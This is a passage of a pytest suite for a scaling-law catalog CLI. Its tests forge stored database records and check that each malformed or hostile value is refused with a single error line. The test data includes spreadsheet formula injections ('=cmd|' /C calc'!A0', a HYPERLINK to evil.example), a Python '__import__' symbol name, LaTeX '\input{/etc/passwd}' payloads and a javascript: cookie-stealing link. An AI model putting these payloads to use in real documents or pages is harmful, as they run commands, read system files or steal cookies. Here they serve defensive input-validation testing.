        symbols = record["laws"][0]["symbols"]
        symbols[hostile] = {**symbols["Dprime"], "expression": "U"}
    result = _cli("sweep", "defined", "N=7e7", "U=2e9", "R=0..40:3 lin", "--db", url)
    header = next(csv.reader(io.StringIO(result.output)))
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in header), header


def _renamed_symbol(catalog_db, tmp_path, name):
    """A copy of the catalog in which hoffmann2022's symbol alpha is ``name`` throughout its stored
    record and formula data (keys and formula texts), as someone else's catalog.sqlite may hold."""
    import json
    import re
    import shutil

    alpha = re.compile(r"(?<![\w\\])alpha(?!\w)")

    def renamed(value):
        if isinstance(value, str):
            return alpha.sub(lambda _: name, value)
        if isinstance(value, list):
            return [renamed(v) for v in value]
        if isinstance(value, dict):
            return {renamed(k): renamed(v) for k, v in value.items()}
        return value

    path = tmp_path / "renamed.sqlite"
    shutil.copyfile(catalog_db.removeprefix("sqlite:///"), path)
    with connection_to(path) as connection:
        for table, column, key in (("papers", "record_json", "id"), ("laws", "numeric_json", "paper_id")):
            for rowid, text in connection.execute(f"SELECT rowid, {column} FROM {table} WHERE {key} = 'hoffmann2022'"
                                                  ).fetchall():
                connection.execute(f"UPDATE {table} SET {column} = ? WHERE rowid = ?",
                                   (json.dumps(renamed(json.loads(text))), rowid))
        connection.execute("UPDATE laws SET expression = replace(expression, 'alpha', ?) WHERE paper_id = 'hoffmann2022'",
                           (name,))
    return f"sqlite:///{path}"


@pytest.mark.parametrize("name", ["__import__('os')", "a b", "\\input{x}"])
@pytest.mark.parametrize("args", [["eval", "hoffmann2022", "N=70B", "D=1.4T"], ["show", "hoffmann2022"],
                                  ["show", "--pretty", "hoffmann2022"], ["sweep", "hoffmann2022", "N=1e9..1e10:3", "D=1T"],
                                  ["table", "--columns", "paper,form", "--where", "id=hoffmann2022", "--format", "latex"],
                                  ["predict", "N=70B", "D=1.4T"]])
def test_a_stored_symbol_name_no_record_may_hold_is_one_error(catalog_db, tmp_path, name, args):
    # the fast paths (eval, show, sweep: the stored JSON) took any name the database held into sympy,
    # lambdify and the terminal (L = E + A/N**a b + ...); show --pretty died in sympy's traceback.
    # The record is refused before any formula is built from it: nothing is run, printed or typeset.
    url = _renamed_symbol(catalog_db, tmp_path, name)
    result = _cli(*args, "--db", url)
    _one_error_line(result, 1, "hoffmann2022", "rebuild it with 'catalog load'")
    assert [line for line in result.output.splitlines() if name in line and not line.startswith("error")] == []
    assert _cli("eval", "kaplan2020/loss-n", "N=1e9", "--db", url).exit_code == 0  # the other records read as ever


@pytest.mark.parametrize("definition", ["U + Zed", "U + 10**10**10", "-" * 5000 + "U"])
@pytest.mark.parametrize("fmt", ["text", "json", "csv"])
def test_a_stored_definition_that_does_not_parse_is_one_error_in_predict(tmp_path, definition, fmt):
    # predict computes a row's defined quantities when it prints them, after its engine errors were
    # turned into error lines: the definition's EngineError reached the terminal as a traceback. The
    # definition is part of the expression the stored tree must be: refused when the law is read
    with _forged_record(tmp_path) as (url, record, connection):
        record["laws"][0]["symbols"]["Dprime"]["expression"] = definition
    result = _cli("predict", "model_parameters=7e7", "data=2e9", "epochs=4", "--format", fmt, "--db", url)
    _one_error_line(result, 1, "not the tree of its expression", "rebuild it with 'catalog load'")


@pytest.mark.parametrize("where", ["expression", "definition"])
@pytest.mark.parametrize("args", [["table", "--columns", "paper,form", "--where", "id=defined", "--constants", "default",
                                   "--format", "latex"],
                                  ["table", "--columns", "paper,form", "--where", "id=defined", "--constants", "fit",
                                   "--format", "csv"],
                                  ["show", "--pretty", "defined"]])
def test_a_stored_formula_that_does_not_parse_is_one_error_with_constants_or_pretty(tmp_path, where, args):
    # table --constants prints through typeset (display_form: an EngineError) and show --pretty
    # parses each formula itself (a FormulaError): both ended in a traceback for a formula of a
    # --db no load wrote, where the table without --constants gives one error line
    with _forged_record(tmp_path) as (url, record, connection):
        _forge_formula(record, where, "E + A/N**alpha + B/Dprime**beta + Zed", "U + Zed")
        connection.execute("UPDATE laws SET numeric_json = NULL")
    result = _cli(*args, "--db", url)
    _one_error_line(result, 1, "'repeated-data'", "rebuild it with 'catalog load'")


def _nested(depth: int) -> list:
    tree = ["sym", "E"]
    for _ in range(depth):
        tree = ["neg", tree]
    return tree


@pytest.mark.parametrize("change", [
    lambda d: {"version": d["version"]},  # no tree: a KeyError
    lambda d: {**d, "tree": None},
    lambda d: {**d, "tree": ["+", ["num", 10 ** 400], ["sym", "E"]]},  # an OverflowError
    lambda d: {**d, "tree": ["+", ["num", [1, 2, 3]], ["sym", "E"]]},  # a TypeError when evaluated
    lambda d: {**d, "tree": ["+", ["num", True], ["sym", "E"]]},
    lambda d: {**d, "tree": _nested(900)},  # a RecursionError in solve's closed-form search
    lambda d: {**d, "closed": {"optimum": {**d["closed"]["optimum"], "tree": _nested(900)}}},
])
@pytest.mark.parametrize("args", [["eval", "hoffmann2022", "N=70B", "D=1.4T"], ["predict", "N=70B", "D=1.4T", "--json"],
                                  ["corrections", "hoffmann2022/parametric-loss"], ["solve", "hoffmann2022", "L=2.5", "N=70B"],
                                  ["optimal", "hoffmann2022", "--budget", "1e21"]])
def test_a_stored_formula_tree_no_load_writes_is_one_error_everywhere(catalog_db, tmp_path, change, args):
    # laws.numeric_json of someone else's catalog.sqlite, read by every command that evaluates from
    # it (predict, corrections, the Python session): a tree missing, a number no tree
    # holds, or nesting far deeper than the formula guard lets a formula nest, ended in a traceback
    url = _with_numeric_json(catalog_db, tmp_path, "hoffmann2022/parametric-loss", change)
    result = _cli(*args, "--db", url)
    _one_error_line(result, 1, "rebuild it with 'catalog load'")


@pytest.mark.parametrize("column, value", [
    ("definitions", "Ehat = 1; =cmd|' /C calc'!A0"),  # no 'name = text': a ValueError traceback in --json
    ("definitions", "=HYPERLINK(\"http://evil.example\") = 1"),
    ("output_symbol", "=HYPERLINK(\"http://evil.example\")"),
    ("output_symbol", "L = E; x"),
])
@pytest.mark.parametrize("fmt", ["table", "json", "csv"])
def test_search_laws_never_prints_a_symbol_or_definition_no_record_may_hold(catalog_db, tmp_path, column, value, fmt):
    # search --laws prints the laws table's output symbol and definitions as the database holds them
    # (not the re-checked stored record): a name or definition list no load writes is one error line
    import shutil

    path = tmp_path / "laws-columns.sqlite"
    shutil.copyfile(catalog_db.removeprefix("sqlite:///"), path)
    with connection_to(path) as connection:
        connection.execute(f"UPDATE laws SET {column} = ? WHERE id = 'hoffmann2022/parametric-loss'", (value,))
    result = _cli("search", "--laws", "chinchilla", "--format", fmt, "--db", f"sqlite:///{path}")
    _one_error_line(result, 1, "hoffmann2022/parametric-loss", "rebuild it with 'catalog load'")


@pytest.mark.parametrize("definition", ["(" * 9000 + "U" + ")" * 9000, "exp(" * 190 + "U" + ")" * 190])
@pytest.mark.parametrize("args", [["predict", "model_parameters=7e7", "data=2e9", "epochs=4"],
                                  ["eval", "defined", "N=7e7", "U=2e9", "R=4"],
                                  ["table", "--columns", "paper,form", "--where", "id=defined", "--constants", "default"]])
def test_a_stored_definition_that_does_not_parse_is_quoted_short(tmp_path, definition, args):
    # the error quoted the whole formula of a --db no load wrote: an 'error:' line of 18,000 characters
    with _forged_record(tmp_path) as (url, record, connection):
        record["laws"][0]["symbols"]["Dprime"]["expression"] = definition
    result = _cli(*args, "--db", url)
    assert result.exit_code in (1, 2) and "Traceback" not in result.output
    [line] = [line for line in result.output.splitlines() if line.startswith("error")]
    assert ("does not parse" in line or "not the tree of its expression" in line) and len(line) < 600, line[:300]


def _set_value(value):
    def change(law):
        law["constant_sets"][0]["values"]["A"] = value
    return change


def _fixed_value(value):
    def change(law):
        law["symbols"]["K"] = {**law["symbols"]["E"], "role": "fixed", "value": value}
        law["expression"] += " + K"
    return change


@pytest.mark.parametrize("change", [
    _set_value(10 ** 400), _set_value("521"), _set_value(True), _set_value(None), _set_value(float("inf")),
    _set_value(float("nan")), _fixed_value(10 ** 400), _fixed_value("1e9"),
    lambda law: law["constant_sets"][0].update(printed={"A": "\\input{/etc/passwd}"}),
    # digits of another number than the value computed with (eval printed A=9.99 and computed 521),
    # or of a constant the set has no value for
    lambda law: law["constant_sets"][0].update(printed={"A": "9.99"}),
    lambda law: law["constant_sets"][0].update(printed={"K": "1"}),
    lambda law: law["constant_sets"][0].update(stderr={"A": "x"}),
])
@pytest.mark.parametrize("args", [["eval", "defined", "N=7e7", "U=2e9", "R=4"], ["show", "defined"],
                                  ["sweep", "defined", "N=7e7", "U=2e9", "R=0..40:3 lin"]])
def test_a_stored_number_no_record_may_hold_is_one_error_on_the_fast_paths(tmp_path, change, args):
    # eval, show and sweep read the stored JSON without the schema: a 400-digit integer or a
    # string where a number stands ended in a traceback (OverflowError, TypeError), True evaluated
    # as 1, a non-number in printed was shown as the set's digits; each is refused as the schema would
    _refused_on_the_fast_path(tmp_path, change, args)


def _refused_on_the_fast_path(tmp_path, change, args) -> None:
    """``catalog ARGS`` over the fixture with ``change`` made to its stored law: one error line."""
    with _forged_record(tmp_path) as (url, record, connection):
        change(record["laws"][0])
    result = _cli(*args, "--db", url)
    _one_error_line(result, 1, "'defined'", "rebuild it with 'catalog load'")


def _symbol_n(change):
    def changed(law):
        change(law["symbols"]["N"])
    return changed


@pytest.mark.parametrize("change", [
    _symbol_n(lambda n: n["range"].update(min="x")), _symbol_n(lambda n: n.update(range=[1, 2])),
    _symbol_n(lambda n: n.update(role="fixed")),  # a fixed symbol without its value: float(None)
    _symbol_n(lambda n: n.update(role="constant")),
    lambda law: law["symbols"].update(N="input"),
    lambda law: law["symbols"]["L"].update(role="input"),  # no output
    lambda law: law.update(constant_sets={"fit": 1}),
    lambda law: law["constant_sets"][0].update(intervals={"A": {"low": "x", "high": 3, "level": 0.95}}),
    lambda law: law["constant_sets"][0].update(ranges={"N": {"min": "x", "max": 3, "source": "s"}}),
])
@pytest.mark.parametrize("args", [["eval", "defined", "N=7e7", "U=2e9", "R=4"], ["show", "defined"],
                                  ["sweep", "defined", "N=7e7", "U=2e9", "R=1..40:3"]])
def test_a_stored_law_shaped_as_no_record_is_one_error_on_the_fast_paths(tmp_path, change, args):
    # eval, show and sweep trust the stored JSON's shape: a symbol that is no object, a range of
    # text, a fixed symbol without its value, no output or constant sets that are no list ended in
    # a TypeError, AttributeError or StopIteration traceback
    _refused_on_the_fast_path(tmp_path, change, args)


@pytest.mark.parametrize("change, args", [
    (lambda r: r["laws"][0].update(check_values={"a": 1}), ["eval", "defined", "N=7e7", "U=2e9", "R=4"]),
    (lambda r: r["laws"][0].update(check_values=[1]), ["show", "defined"]),
    (lambda r: r["laws"][0].update(conventions="x"), ["eval", "defined", "N=7e7", "U=2e9", "R=4"]),
    (lambda r: r["laws"][0].update(fitting=[1]), ["show", "defined"]),
    (lambda r: r["laws"][0].update(expression=5), ["sweep", "defined", "N=7e7", "U=2e9", "R=1..40:3"]),
    (lambda r: r["laws"][0].update(default_constant_set="nosuch"), ["eval", "defined", "N=7e7", "U=2e9", "R=4"]),
    (lambda r: r["laws"][0]["constant_sets"][0].update(provenance=5), ["sweep", "defined", "N=7e7", "U=2e9", "R=1..40:3"]),
    (lambda r: r.update(bibliography="x"), ["show", "defined"]),
])
def test_a_stored_record_no_load_writes_failing_a_fast_path_is_reported_as_such(tmp_path, change, args):
    # the fast paths read the stored JSON without the schema, trusting its shape: each of these ended
    # in a traceback (TypeError, AttributeError, StopIteration...). When a command fails, the records
    # it read as views are validated: the schema's error is the one line
    with _forged_record(tmp_path) as (url, record, connection):
        change(record)
    result = _cli(*args, "--db", url)
    _one_error_line(result, 1, "'defined'", "rebuild it with 'catalog load'")


def test_an_error_of_a_command_over_valid_records_is_not_blamed_on_them(catalog_db, monkeypatch):
    # the fallback validates what was read only to explain a failure: a bug stays a bug
    from catalog.engine import evaluation

    def broken(*args, **kwargs):
        raise TypeError("a bug")

    monkeypatch.setattr(evaluation, "evaluate", broken)
    result = _cli("eval", "hoffmann2022", "N=70B", "D=1.4T", "--db", catalog_db)
    assert isinstance(result.exception, TypeError) and "rebuild it" not in result.output


def _with_cell(catalog_db, tmp_path, sql: str, value) -> str:
    """A copy of the catalog with ``sql`` (an UPDATE of one ``?``) run with ``value``."""
    import shutil

    path = tmp_path / "cell.sqlite"
    shutil.copyfile(catalog_db.removeprefix("sqlite:///"), path)
    with connection_to(path) as connection:
        connection.execute(sql, (value,))
    return f"sqlite:///{path}"


@pytest.mark.parametrize("sql", [
    "UPDATE papers SET authors = ? WHERE id = 'hoffmann2022'",
    "UPDATE papers SET title = ? WHERE id = 'hoffmann2022'",
    "UPDATE laws SET law_key = ? WHERE id = 'hoffmann2022/parametric-loss'",
    "UPDATE papers SET record_json = CAST(record_json AS BLOB) WHERE id = 'hoffmann2022' AND ? IS NOT NULL",
])
@pytest.mark.parametrize("args", [["search", "chinchilla", "--format", "json"], ["show", "hoffmann2022"],
                                  ["eval", "hoffmann2022", "N=70B", "D=1.4T"], ["table", "7"]])
def test_a_database_holding_bytes_where_text_stands_is_one_error(catalog_db, tmp_path, sql, args):
    # SQLite keeps a BLOB in any column: one in a text column (a record's JSON, a title, the authors)
    # of a --db no load wrote ended search, show, eval and the tables in a TypeError traceback
    # (str.split of bytes, a str pattern over bytes, json.dumps of bytes)
    url = _with_cell(catalog_db, tmp_path, sql, b"\xff\xfe")
    result = _cli(*args, "--db", url)
    if result.exit_code == 0:  # a command that does not read the forged cell (show reads the record, not the title)
        assert "xff" not in result.output and result.exception is None
        return
    _one_error_line(result, 1, "rebuild it with 'catalog load'")


@pytest.mark.parametrize("kind", ["=cmd|' /C calc'!A0", "nationality"])
@pytest.mark.parametrize("fmt", ["table", "json", "csv"])
def test_a_facet_of_a_kind_no_load_writes_is_one_error(catalog_db, tmp_path, kind, fmt):
    # search files each paper's facets under its kind: one no load writes ended in a KeyError traceback
    url = _with_cell(catalog_db, tmp_path, "UPDATE paper_facets SET kind = ? WHERE paper_id = 'hoffmann2022' "
                     "AND kind = 'modality'", kind)
    result = _cli("search", "chinchilla", "--format", fmt, "--db", url)
    _one_error_line(result, 1, "hoffmann2022", "rebuild it with 'catalog load'")


def test_the_python_session_refuses_bytes_where_text_stands(catalog_db, tmp_path):
    import catalog
    from catalog.store.recordview import InvalidRecord

    url = _with_cell(catalog_db, tmp_path, "UPDATE papers SET authors = ? WHERE id = 'hoffmann2022'", b"\xff")
    with catalog.open(url) as cat, pytest.raises(InvalidRecord, match="binary"):
        cat.search("chinchilla")


@pytest.mark.parametrize("change", [
    lambda d: {**d, "tree": ["+", {"a": 1}, ["sym", "E"]]},  # a JSON object in a tree: unhashable, a TypeError
    lambda d: {**d, "tree": ["+", None, ["sym", "E"]]},
    lambda d: {**d, "closed": {"optimum": {**d["closed"]["optimum"], "tree": ["sym", {"E": 1}]}}},
    # comparisons of a secondary set with the primary: a 400-digit integer ended show in an
    # OverflowError traceback; NaN, Infinity and true are no numbers a load computes either
    lambda d: {**d, "compared": {k: {**v, "used": 10 ** 400} for k, v in d["compared"].items()}},
    lambda d: {**d, "compared": {k: {**v, "primary_value": float("nan")} for k, v in d["compared"].items()}},
    lambda d: {**d, "compared": {k: {**v, "point": {"N": float("inf"), "D": 1e12}} for k, v in d["compared"].items()}},
    lambda d: {**d, "compared": {k: {**v, "used": True} for k, v in d["compared"].items()}},
])
@pytest.mark.parametrize("call", ["repr", "call", "show"])
def test_stored_formula_data_of_shapes_no_load_writes_is_invalid_in_the_session_and_show(catalog_db, tmp_path, change, call):
    import catalog
    from catalog.store.recordview import InvalidRecord

    url = _with_numeric_json(catalog_db, tmp_path, "hoffmann2022/parametric-loss", change)
    if call == "show":
        _one_error_line(_cli("show", "hoffmann2022", "--db", url), 1, "rebuild it with 'catalog load'")
        return
    with catalog.open(url) as cat, pytest.raises(InvalidRecord, match="hoffmann2022|parametric-loss"):
        law = cat.law("hoffmann2022")
        repr(law) if call == "repr" else law(N=7e10, D=1.4e12)


@pytest.mark.parametrize("change, args", [
    (lambda r: r["bibliography"].pop("venue"), ["show", "hoffmann2022"]),
    (lambda r: r["bibliography"].pop("venue"), ["bib", "hoffmann2022"]),
    (lambda r: r["laws"][0].pop("form"), ["eval", "hoffmann2022", "N=70B", "D=1.4T"]),
    (lambda r: r["laws"][0]["symbols"]["N"].pop("range"), ["sweep", "hoffmann2022", "N=1e8..1e9:3", "D=1.4T"]),
    (lambda r: r["laws"][0].pop("conventions"), ["predict", "N=70B", "D=1.4T"]),
    (lambda r: r.pop("survey"), ["table", "7"]),
    (lambda r: r["laws"][0]["constant_sets"][0].pop("ranges"), ["optimal", "hoffmann2022", "--budget", "1e21"]),
])
def test_a_stored_record_missing_a_field_the_schema_defaults_is_one_error(catalog_db, tmp_path, change, args):
    # load stores every field of a record (nulls too) and the fast paths read them so; a stored
    # record without one still passes the schema, which fills in its default, so the traceback
    # of its missing attribute (AttributeError, KeyError) was not put down to the record
    import json
    import shutil

    path = tmp_path / "partial.sqlite"
    shutil.copyfile(catalog_db.removeprefix("sqlite:///"), path)
    with connection_to(path) as connection:
        record = json.loads(connection.execute("SELECT record_json FROM papers WHERE id = 'hoffmann2022'").fetchone()[0])
        change(record)
        connection.execute("UPDATE papers SET record_json = ? WHERE id = 'hoffmann2022'", (json.dumps(record),))
    result = _cli(*args, "--db", f"sqlite:///{path}")
    _one_error_line(result, 1, "'hoffmann2022'", "rebuild it with 'catalog load'")


@pytest.mark.parametrize("field, value", [
    ("bibtex_key", "chin, note = {\\input{/etc/passwd}}, x"),  # outside any braces: a field of its own
    ("bibtex_type", "misc}{k, note = {\\input{/etc/passwd}}}\n@misc{"),
    ("volume", "\\input{/etc/passwd}"),  # balanced, so inside the field: run where a style prints it
    ("number", "\\input{/etc/passwd}"),
    ("pages", "\\input{/etc/passwd}"),
    ("arxiv", "\\input{/etc/passwd}"),
])
def test_bib_never_writes_what_the_schema_constrains_raw_from_a_forged_record(catalog_db, tmp_path, field, value):
    # bib writes the key, entry type, volume, number, pages and arXiv id as they are, which the
    # schema keeps to letters and digits; read from a --db no load wrote (views, not the schema),
    # a forged one put \input into the BibTeX, for LaTeX to read a file
    import json

    url = _with_cell(catalog_db, tmp_path, "UPDATE papers SET record_json = ? WHERE id = 'hoffmann2022'", "{}")

    with connection_to(url.removeprefix("sqlite:///")) as connection, \
            connection_to(catalog_db.removeprefix("sqlite:///")) as source:
        record = json.loads(source.execute("SELECT record_json FROM papers WHERE id = 'hoffmann2022'").fetchone()[0])
        record["bibliography"][field] = value
        if field == "bibtex_type":
            record["bibliography"]["venue"] = None  # else its venue field's lookup fails first
        connection.execute("UPDATE papers SET record_json = ? WHERE id = 'hoffmann2022'", (json.dumps(record),))
    for args in (["bib", "hoffmann2022"], ["bib"]):
        result = _cli(*args, "--db", url)
        assert "\\input" not in result.output
        _one_error_line(result, 1, "'hoffmann2022'", f"bibliography.{field}", "rebuild it with 'catalog load'")


@pytest.mark.parametrize("where, args", [
    ("form_latex", ["table", "7", "--format", "latex"]), ("form_latex", ["table", "7", "--format", "markdown"]),
    ("form_latex", ["show", "hoffmann2022"]),
    ("survey_latex", ["table", "--columns", "paper,survey_form", "--where", "id=hoffmann2022", "--format", "latex"]),
])
@pytest.mark.parametrize("value, message", [("x \\input{/etc/passwd}", "LaTeX command '\\input' is not allowed"),
                                            ("\\left( x", "'\\left' at position 0 has no '\\right'")])
def test_a_stored_latex_field_no_record_may_hold_is_one_error(catalog_db, tmp_path, where, args, value, message):
    # the LaTeX fields go into LaTeX output as they are, which the schema allows for math commands
    # only; read as views from a --db no load wrote, \input{/etc/passwd} went into 'table --format latex',
    # and a \left( without its \right stopped pdflatex on the whole table
    import json

    url = _with_cell(catalog_db, tmp_path, "UPDATE papers SET title = title WHERE ? IS NOT NULL", 1)
    with connection_to(url.removeprefix("sqlite:///")) as connection:
        record = json.loads(connection.execute("SELECT record_json FROM papers WHERE id = 'hoffmann2022'").fetchone()[0])
        if where == "form_latex":
            record["survey"]["table7"]["form_latex"] = value
        else:
            record["laws"][0]["survey_latex"] = value
        connection.execute("UPDATE papers SET record_json = ? WHERE id = 'hoffmann2022'", (json.dumps(record),))
    result = _cli(*args, "--db", url)
    assert "/etc/passwd" not in result.output
    _one_error_line(result, 1, "'hoffmann2022'", where, message, "rebuild it")


@pytest.mark.parametrize("part, field", [("bibliography", "url"), ("reproducibility", "repository"),
                                         ("reproducibility", "raw_data")])
@pytest.mark.parametrize("fmt", ["html", "markdown", "latex"])
def test_a_stored_link_that_is_no_http_link_is_one_error(catalog_db, tmp_path, part, field, fmt):
    # tables write a record's links as an href, a Markdown link and a LaTeX \href; the schema keeps
    # them to http(s), but from a --db no load wrote a javascript: link reached the HTML table
    import json

    url = _with_cell(catalog_db, tmp_path, "UPDATE papers SET title = title WHERE ? IS NOT NULL", 1)
    with connection_to(url.removeprefix("sqlite:///")) as connection:
        record = json.loads(connection.execute("SELECT record_json FROM papers WHERE id = 'hoffmann2022'").fetchone()[0])
        record[part][field] = "javascript:alert(document.cookie)"
        connection.execute("UPDATE papers SET record_json = ? WHERE id = 'hoffmann2022'", (json.dumps(record),))
    result = _cli("table", "--columns", "paper,url,repository", "--where", "id=hoffmann2022", "--format", fmt, "--db", url)
    assert "javascript" not in result.output
    _one_error_line(result, 1, "'hoffmann2022'", f"{part}.{field}", "not an http or https link")


def _with_record(catalog_db, tmp_path, paper_id, change):
    """A copy of the catalog whose stored record of ``paper_id`` is ``change(the stored dict)``."""
    import json
    import shutil

    path = tmp_path / "forged-record.sqlite"
    shutil.copyfile(catalog_db.removeprefix("sqlite:///"), path)
    with connection_to(path) as connection:
        record = json.loads(connection.execute("SELECT record_json FROM papers WHERE id = ?", (paper_id,)).fetchone()[0])
        change(record)
        connection.execute("UPDATE papers SET record_json = ? WHERE id = ?", (json.dumps(record), paper_id))
    return f"sqlite:///{path}"


def _set_expression(text):
    def change(record):
        record["laws"][0]["expression"] = text
    return change


@pytest.mark.parametrize("change", [
    _set_expression("E + A/N**alpha"),  # one term left out: the tree still evaluated both
    _set_expression("E + A/N**alpha + B/D**beta # the tree is another formula"),
    _set_expression("E + A/N**alpha + B/D**(beta)\n"),  # a line break, which no formula holds
])
@pytest.mark.parametrize("args", [["eval", "hoffmann2022", "N=70B", "D=1.4T"], ["show", "hoffmann2022"],
                                  ["sweep", "hoffmann2022", "N=1e9..1e10:3", "D=1.4T"],
                                  ["optimal", "hoffmann2022", "--budget", "1e21"],
                                  ["predict", "N=70B", "D=1.4T", "--where", "id=hoffmann2022"]])
def test_a_stored_expression_that_is_not_its_stored_tree_is_one_error(catalog_db, tmp_path, change, args):
    # the stored tree is evaluated, the stored expression shown: a user saw one formula and got the
    # number of another
    result = _cli(*args, "--db", _with_record(catalog_db, tmp_path, "hoffmann2022", change))
    _one_error_line(result, 1, "'parametric-loss'", "not the tree of its expression", "rebuild it with 'catalog load'")
    assert "1.93665" not in result.output


@pytest.mark.parametrize("change, message", [
    (_set_expression("E + A/N**alpha"), "not the tree of its expression"),
    # a field left out, which the schema fills with its default: the views fail on it (an
    # AttributeError), and the session names the record and the field, as the command does
    (lambda record: record["laws"][0].pop("conventions"), r"laws\[0\]\.conventions: not as catalog load stores it"),
])
def test_the_sessions_predict_reads_a_forged_record_as_the_command_does(catalog_db, tmp_path, change, message):
    # cat.predict reads the records as views, as catalog predict does (it validated them into
    # pydantic): a record no load wrote is still refused by name, not with the error its shape led to
    import catalog
    from catalog.engine.errors import EngineError
    from catalog.store.recordview import InvalidRecord

    url = _with_record(catalog_db, tmp_path, "hoffmann2022", change)
    with catalog.open(url) as cat, pytest.raises((InvalidRecord, EngineError), match=message) as raised:
        cat.predict(N="70B", D="1.4T")
    assert "1.93665" not in str(raised.value)


@pytest.mark.parametrize("args", [["eval", "defined", "N=7e7", "U=2e9", "R=4"], ["show", "defined"]])
def test_a_stored_definition_that_is_not_in_the_stored_tree_is_one_error(tmp_path, args):
    with _forged_record(tmp_path) as (url, record, connection):
        definition = record["laws"][0]["symbols"]["Dprime"]["expression"]
        record["laws"][0]["symbols"]["Dprime"]["expression"] = f"2*({definition})"
    result = _cli(*args, "--db", url)
    _one_error_line(result, 1, "not the tree of its expression", "rebuild it with 'catalog load'")


def test_a_stored_closed_form_whose_text_is_not_its_tree_is_one_error(catalog_db, tmp_path):
    def change(stored):
        optimum = stored["closed"]["optimum"]
        optimum["text"] = f"2*({optimum['text']})"
        return stored

    result = _cli("optimal", "hoffmann2022", "--budget", "1e21",
                  "--db", _with_numeric_json(catalog_db, tmp_path, "hoffmann2022/parametric-loss", change))
    _one_error_line(result, 1, "closed form whose tree is not the tree of its text", "rebuild it with 'catalog load'")


# ------------------------------------------------------------- ranges near the float limits

KIM = "kim2025/agent-performance-mixed-effects"
KIM_AT_ZERO = [f"{n}=0" for n in ("z_Isq z_logT z_logn z_logO z_c z_R z_Ec z_logAe z_PSA z_I_Ec z_Ae_PSA z_O_T "
                                 "z_R_n z_c_I z_Ec_T z_PSA_logn z_I_logT z_Ae_T").split()]


def _strict(*args):
    """The CLI with Python's warnings as errors: numpy's and matplotlib's reached the terminal as
    'path:line: RuntimeWarning' lines (pytest records them instead of printing them)."""
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("error")
        return _cli(*args)


@pytest.mark.parametrize("law, x, held, x_range, fragments", [
    # matplotlib raised: overflow in its log ticks, axis limits of inf, an arange of no length
    ("hoffmann2022", "N", ["D=1e12"], "1e308..1.7e308", ("x range", "1e+250")),
    ("hoffmann2022", "N", ["D=1e12"], "1e-320..1e-10", ("x range", "1e-250")),
    (KIM, "z_I", KIM_AT_ZERO, "-1e308..1e308", ("z_I", "wider than the largest float")),
    (KIM, "z_I", KIM_AT_ZERO, "1e307..1.7e308", ("x range", "1e+250")),
    # a range of no width, or reversed: matplotlib's 'identical low and high xlims' warning, or an axis drawn backwards
    (KIM, "z_I", KIM_AT_ZERO, "1..1", ("x range", "low < high")),
    (KIM, "z_I", KIM_AT_ZERO, "1..-1", ("x range", "low < high")),
    ("hoffmann2022", "N", ["D=1e12"], "1e9..1e9", ("x range", "low < high")),
])
def test_a_plot_range_no_axis_can_show_is_one_error(catalog_db, tmp_path, law, x, held, x_range, fragments):
    result = _strict("plot", law, "--x", x, *held, f"--range={x_range}", "-o", str(tmp_path / "p.png"), "--db", catalog_db)
    _one_error_line(result, 2, *fragments)
    assert not (tmp_path / "p.png").exists()


def test_a_plot_of_values_beyond_an_axis_leaves_them_out(catalog_db, tmp_path):
    """An output past 1e250 (Chinchilla's loss with alpha = 2 at 1e-200 parameters is 4e402, past
    the largest float, and 4e262 at 1e-130) is left out like a non-finite one, not drawn into
    matplotlib's overflowing ticks."""
    result = _strict("plot", "hoffmann2022", "--x", "N", "D=1e12", "--range=1e-200..1e-10", "alpha=2",
                     "-o", str(tmp_path / "p.png"), "--db", catalog_db)
    assert result.exit_code == 0, result.output
    assert "points where L is not a finite number" in result.stderr and (tmp_path / "p.png").exists()


def test_a_linear_sweep_wider_than_the_largest_float_is_one_error(catalog_db):
    # numpy's overflow warnings, then '4 value(s) are not finite numbers (first: nan)'
    result = _strict("sweep", KIM, "z_I=-1e308..1e308:5", *KIM_AT_ZERO, "--db", catalog_db)
    _one_error_line(result, 2, "z_I", "wider than the largest float")


def test_an_input_a_subnormal_away_from_its_range_is_warned_without_overflow(catalog_db):
    # 'RuntimeWarning: overflow encountered in divide', then 'below the fitted range ... by a factor of inf'
    result = _strict("eval", "hoffmann2022", "N=1e-320", "D=1e10", "--db", catalog_db)
    assert result.exit_code == 0, result.output
    assert "is below the fitted range N in [7e+07, 1.6e+10] by a factor of over 1.8e+308 (" in result.stderr
    assert "inf" not in result.stderr.replace("infinit", "")


def _edge_catalog(tmp_path, **ranges) -> str:
    """A database of the records named with their first fitted range ('min: ...\n max: ...' as in
    kim2025's z_I and hoffmann2022's N) replaced by ``ranges[id] = (min, max)``: finite numbers a
    record may hold, at the float limits."""
    first = {"kim2025": "          min: -1.565\n          max: 1.483\n", "hoffmann2022": "          min: 7.0e7\n          max: 1.6e10\n"}
    for paper, (low, high) in ranges.items():
        text = (Path(__file__).parent.parent / "data" / "papers" / f"{paper}.yaml").read_text(encoding="utf-8")
        edge = text.replace(first[paper], f"          min: {low}\n          max: {high}\n", 1)
        assert edge != text
        (tmp_path / f"{paper}.yaml").write_text(edge, encoding="utf-8")
    url = f"sqlite:///{tmp_path / 'c.sqlite'}"
    db.load(records.load_valid([tmp_path / f"{paper}.yaml" for paper in ranges]), url)
    return url


def test_a_stored_fitted_range_at_the_float_limits_plots_within_the_axis(tmp_path):
    """A record (or a --db) may hold a fitted range of [-1e308, 1e308]: its plot widened it half its
    width each side, past the largest float, and reported that the output is 'not a finite number
    anywhere on the plotted range'. The default x range stays within what an axis shows."""
    url = _edge_catalog(tmp_path, kim2025=("-1.0e308", "1.0e308"))
    result = _strict("plot", KIM, "--x", "z_I", *KIM_AT_ZERO, "-o", str(tmp_path / "p.png"), "--db", url)
    assert result.exit_code == 0, result.output
    import catalog
    from catalog.engine import plotting

    with catalog.open(url) as cat:
        drawn = plotting.plot([(cat.law(KIM), None)], "z_I", tmp_path / "api.png",
                              fixes={a.split("=")[0]: 0 for a in KIM_AT_ZERO})
    xs = drawn.series[0].x
    assert xs[0] == -1e250 and xs[-1] == 1e250 and np.isfinite(drawn.series[0].y).all()


@pytest.mark.parametrize("window", ["1e-320..1e308", "1e-10..1e308"])
def test_a_solve_window_wider_than_the_largest_float_ratio_is_searched(catalog_db, window):
    # hi / lo overflowed to inf: 'OverflowError: cannot convert float infinity to integer'
    result = _strict("solve", "hoffmann2022", "L=2", "D=1T", f"--window={window}", "--db", catalog_db)
    assert result.exit_code == 0, result.output
    direct = _cli("solve", "hoffmann2022", "L=2", "D=1T", "--db", catalog_db)
